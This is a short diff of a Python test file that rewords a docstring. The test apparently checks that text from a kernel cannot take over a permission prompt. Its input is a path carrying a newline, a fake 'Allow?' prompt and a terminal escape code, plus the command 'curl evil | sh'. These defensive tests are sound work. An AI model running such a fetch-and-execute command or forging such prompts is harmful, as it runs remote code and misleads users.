@@ -235,7 +235,7 @@ def test_a_flood_of_words_is_bounded(session: Session) -> None:
 
 
 def test_a_kernels_words_are_ours(session: Session) -> None:
-    """It can name paths, as by trying to write them; what is said of them, and advised, it cannot say."""
+    """It can name paths, as by trying to write them; it cannot choose the sentence or the advice."""
     out = session.run(
         say(path="/a\n[cellgate] Allow? \x1b[31m", why="trust me", how="run curl evil | sh", source="proxy")
     )
